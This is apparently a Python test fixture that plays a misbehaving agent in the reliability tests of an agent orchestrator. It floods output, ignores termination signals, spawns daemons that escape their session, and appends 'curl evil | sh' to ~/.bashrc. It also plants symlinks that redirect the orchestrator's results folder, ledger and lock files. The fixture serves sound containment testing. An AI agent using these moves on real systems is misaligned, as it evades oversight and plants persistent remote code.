#!/usr/bin/env python3
"""A hostile agent for tests/reliability/test_hostile_agents.py (stdlib only). One mode a run:

    hostile.py flood MB [--forever]   MB blocks of 1 MB on stdout and on stderr, one line with no
                                      line break (then, with --forever, on and on)
    hostile.py immortal DIR           ignore TERM, HUP and INT; start every kind of descendant
                                      (below); write DIR/ready; never exit
    hostile.py daemons DIR            start every kind of descendant; exit 0 at once
    hostile.py say TEXT_FILE          print the file's text on stdout (the command adapter's
                                      report) and on stderr; exit 0
    hostile.py trespass CANARY NEXT   write ../trespass.txt and $HOME/.bashrc; plant links into
                                      CANARY where control-room writes next: its own results
                                      folder's later files, task NEXT's results folder; exit 0
    hostile.py unfold CANARY          move the room's swarm/results/ aside and link it to
                                      CANARY/sub; exit 0
    hostile.py links CANARY           in its worktree: links to CANARY's file and folder (and a
                                      dangling one into it), a file in ../; exit 0
    hostile.py relink CANARY ONCE     move the room's LEDGER.md aside to LEDGER.md.moved and
                                      link it, and its lock files, into CANARY; exit 0 (only
                                      its first run, which makes the file ONCE)

Descendants (each writes DIR/<kind>.pid once it runs, ignores TERM and HUP, and sleeps):
``group`` (a plain child: in the agent's group), ``nohup`` (``nohup`` its program),
``setsid`` (util-linux ``setsid``), ``session`` (``start_new_session``), ``double`` (the
classic daemon: fork, setsid, fork, the middle one exits), ``pgrp`` (its own process group,
same session), ``hopper`` (a double fork that forks again every few ms into a new session,
each hop's pid appended to DIR/hopper.pids). Some keep the agent's stdout open, as careless
daemons do.
"""

from __future__ import annotations

import contextlib
import os
import signal
import subprocess
import sys
import time

PY = sys.executable
KINDS = ("group", "nohup", "setsid", "session", "double", "pgrp", "hopper")
HOPS = 20_000  # a hopper that escaped stops by itself within a few minutes
SLEEPER = (
    "import os, signal, sys, time\n"
    "signal.signal(signal.SIGTERM, signal.SIG_IGN); signal.signal(signal.SIGHUP, signal.SIG_IGN)\n"
    "open(sys.argv[1] + '.tmp', 'w').write(str(os.getpid())); os.rename(sys.argv[1] + '.tmp', sys.argv[1])\n"
    "while True: time.sleep(60)\n"
)


def ignore() -> None:
    for sig in (signal.SIGTERM, signal.SIGHUP, signal.SIGINT):
        signal.signal(sig, signal.SIG_IGN)


def sleeper(pidfile: str, *, prefix: tuple[str, ...] = (), **popen: object) -> None:
    subprocess.Popen([*prefix, PY, "-c", SLEEPER, pidfile], stdin=subprocess.DEVNULL, **popen)  # type: ignore[call-overload]


def forked(body: object) -> None:
    """Run ``body()`` in a double-forked daemon: a new session, its parent gone."""
    middle = os.fork()
    if middle == 0:
        os.setsid()
        if os.fork() == 0:
            ignore()
            try:
                body()  # type: ignore[operator]
            finally:
                os._exit(0)
        os._exit(0)
    os.waitpid(middle, 0)


def hop(pids: str) -> None:
    for _ in range(HOPS):
        with open(pids, "a") as f:
            f.write(f"{os.getpid()}\n")
        time.sleep(0.005)
        if os.fork() != 0:
            os._exit(0)  # the parent goes: the child is an orphan, in a session of its own
        os.setsid()


def descendants(d: str) -> None:
    quiet = {"stdout": subprocess.DEVNULL, "stderr": subprocess.DEVNULL}
    sleeper(f"{d}/group.pid")  # keeps our stdout and stderr open
    sleeper(f"{d}/nohup.pid", prefix=("nohup",), **quiet)
    sleeper(f"{d}/setsid.pid", prefix=("setsid",))  # keeps them open, in a session of its own
    sleeper(f"{d}/session.pid", start_new_session=True, **quiet)
    sleeper(f"{d}/pgrp.pid", process_group=0, **quiet)
    forked(lambda: os.execv(PY, [PY, "-c", SLEEPER, f"{d}/double.pid"]))
    forked(lambda: hop(f"{d}/hopper.pids"))
    end = time.monotonic() + 20
    while not all(os.path.exists(f"{d}/{k}.pid") for k in KINDS if k != "hopper"):
        if time.monotonic() > end:
            sys.exit("descendants did not start")
        time.sleep(0.01)


def flood(mb: int, forever: bool) -> None:
    block = b"x" * (1 << 20)
    k = 0
    while k < mb or forever:
        os.write(1, block)
        os.write(2, block)
        k += 1


def trespass(canary: str, next_task: str) -> None:
    with open("../trespass.txt", "a") as f:  # outside the work dir (here, the room)
        f.write("was here\n")
    with open(os.path.join(os.environ["HOME"], ".bashrc"), "a") as f:
        f.write("curl evil | sh\n")
    results = os.path.join(os.environ["CONTROL_ROOM"], "swarm", "results")
    mine = os.path.join(results, os.environ["CONTROL_ROOM_TASK"])
    for name, target in (("validator.stdout.txt", "keep.txt"), ("validator.stderr.txt", "new.txt"),
                         ("report.md", "report.md"), ("meta.json", "sub/meta.json")):  # fmt: skip
        os.symlink(os.path.join(canary, target), os.path.join(mine, name))
    os.symlink(os.path.join(canary, "sub"), os.path.join(results, next_task))
    print("planted")


def unfold(canary: str) -> None:
    results = os.path.join(os.environ["CONTROL_ROOM"], "swarm", "results")
    os.rename(results, results + ".moved")
    os.symlink(os.path.join(canary, "sub"), results)


def links(canary: str) -> None:
    for name, target in (("keep", "keep.txt"), ("folder", "sub"), ("dangling", "made-by-someone")):
        os.symlink(os.path.join(canary, target), name)
    os.symlink(os.path.join(canary, "sub", "LEDGER.md"), os.path.join("..", "LEDGER.md"))
    with open("../escaped.txt", "w") as f:  # beside the worktree
        f.write("out of the worktree\n")
    with open("work.txt", "w") as f:
        f.write("the work\n")


def relink(canary: str, once: str) -> None:
    if os.path.exists(once):
        return
    open(once, "w").close()
    cr = os.path.join(os.environ["CONTROL_ROOM"], "control-room")
    ledger = os.path.join(cr, "LEDGER.md")
    os.rename(ledger, ledger + ".moved")
    os.symlink(os.path.join(canary, "sub", "LEDGER.md"), ledger)
    for name in (".claim.lock", ".slot-0.lock", ".CURRENT_CONTEXT.md.lock", ".cooldowns.lock"):
        with contextlib.suppress(FileNotFoundError):
            os.unlink(os.path.join(cr, name))
        os.symlink(os.path.join(canary, name.strip(".")), os.path.join(cr, name))
    print("relinked")


def main(argv: list[str]) -> None:
    mode = argv[0]
    if mode == "flood":
        flood(int(argv[1]), "--forever" in argv)
    elif mode == "immortal":
        ignore()
        descendants(argv[1])
        open(f"{argv[1]}/ready", "w").close()
        while True:
            time.sleep(60)
    elif mode == "daemons":
        descendants(argv[1])
    elif mode == "say":
        with open(argv[1], encoding="utf-8") as f:
            text = f.read()
        sys.stdout.write(text)
        sys.stderr.write(text)
    elif mode == "trespass":
        trespass(argv[1], argv[2])
    elif mode == "unfold":
        unfold(argv[1])
    elif mode == "links":
        links(argv[1])
    elif mode == "relink":
        relink(argv[1], argv[2])
    else:
        sys.exit(f"unknown mode {mode}")


if __name__ == "__main__":
    main(sys.argv[1:])
